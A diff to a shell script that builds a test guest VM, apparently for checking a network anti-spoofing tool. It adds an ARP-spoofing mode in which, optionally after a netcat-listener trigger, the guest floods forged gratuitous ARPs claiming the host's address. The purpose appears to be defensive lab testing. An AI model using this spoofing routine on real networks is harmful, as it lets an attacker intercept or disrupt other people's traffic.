@@ -6,6 +6,10 @@
 #   vms.ip=ADDR/PREFIX  static address (without it: DHCP with udhcpc)
 #   vms.gw=ADDR         ping target (default: the DHCP router)
 #   vms.spoof=ADDR      also add ADDR to the NIC and ping the target FROM it (a spoofed source)
+#   vms.attack=garp     an ARP spoofer: once ready (and, with vms.trigger=PORT, once a TCP connection to PORT
+#                       came in), forged gratuitous ARPs claiming the target's address (the host on libvirt's
+#                       network) with the guest's own MAC, one every 0.2 s for vms.attack_for=SECONDS (default
+#                       180; busybox arping -U; "GUEST: attack garp ..." on the console, "... done" at the end)
 #
 # Two loops ping the target (bursts of 3, 0.3 s apart), one from the guest's own address and one from vms.spoof, and
 # print "GUEST: legit ok|fail N" / "GUEST: spoof ok|fail N" on the serial console.
@@ -15,7 +19,7 @@
 # they are missing (root). Exit 0 ok (prints the folder), 1 failure, 3 not root while something is missing.
 set -euo pipefail
 export PATH="$PATH:/usr/local/sbin:/usr/sbin:/sbin"
-KIT_VERSION=3
+KIT_VERSION=5
 OUT=${VMSENTRY_GUEST_DIR:-/var/cache/vmsentry/guest}
 MODULES="e1000 virtio_ring virtio virtio_pci_modern_dev virtio_pci_legacy_dev virtio_pci failover net_failover virtio_net"
 
@@ -79,7 +83,7 @@ for m in e1000 virtio_ring virtio virtio_pci_modern_dev virtio_pci_legacy_dev vi
   insmod /mods/$m.ko 2>/dev/null || echo "GUEST: insmod $m failed"
 done
 arg() { tr ' ' '\n' </proc/cmdline | sed -n "s/^$1=//p" | tail -n1; }
-IP=$(arg vms.ip); GW=$(arg vms.gw); SPOOF=$(arg vms.spoof)
+IP=$(arg vms.ip); GW=$(arg vms.gw); SPOOF=$(arg vms.spoof); ATTACK=$(arg vms.attack); TRIGGER=$(arg vms.trigger); ATTACK_FOR=$(arg vms.attack_for)
 i=0; IF=""
 while [ -z "$IF" ] && [ $i -lt 50 ]; do IF=$(ls /sys/class/net | grep -v '^lo$' | head -n1); i=$((i+1)); sleep 0.1; done
 ip link set lo up; ip link set "$IF" up
@@ -100,6 +104,18 @@ pinger() {   # pinger LABEL PING-ARGS...: bursts of 3 pings 0.3 s apart, result 
     n=$((n+1)); sleep 0.3
   done
 }
+garp() {   # forged gratuitous ARPs: "$GW is at my MAC" (arping binds to the address it claims: nonlocal bind)
+  if [ -n "$TRIGGER" ]; then
+    echo "GUEST: attack waits for a connection on port $TRIGGER"
+    nc -l -p "$TRIGGER" </dev/null >/dev/null 2>&1
+  fi
+  echo 1 >/proc/sys/net/ipv4/ip_nonlocal_bind
+  echo "GUEST: attack garp claiming $GW"
+  n=0
+  while [ $n -lt $(( ${ATTACK_FOR:-180} * 5 )) ]; do arping -U -c 1 -w 1 -I "$IF" "$GW" >/dev/null 2>&1 & sleep 0.2; n=$((n+1)); done
+  echo "GUEST: attack garp done"
+}
+[ "$ATTACK" = garp ] && garp &
 pinger legit "$GW" &
 [ -n "$SPOOF" ] && pinger spoof -I "$SPOOF" "$GW" &
 wait
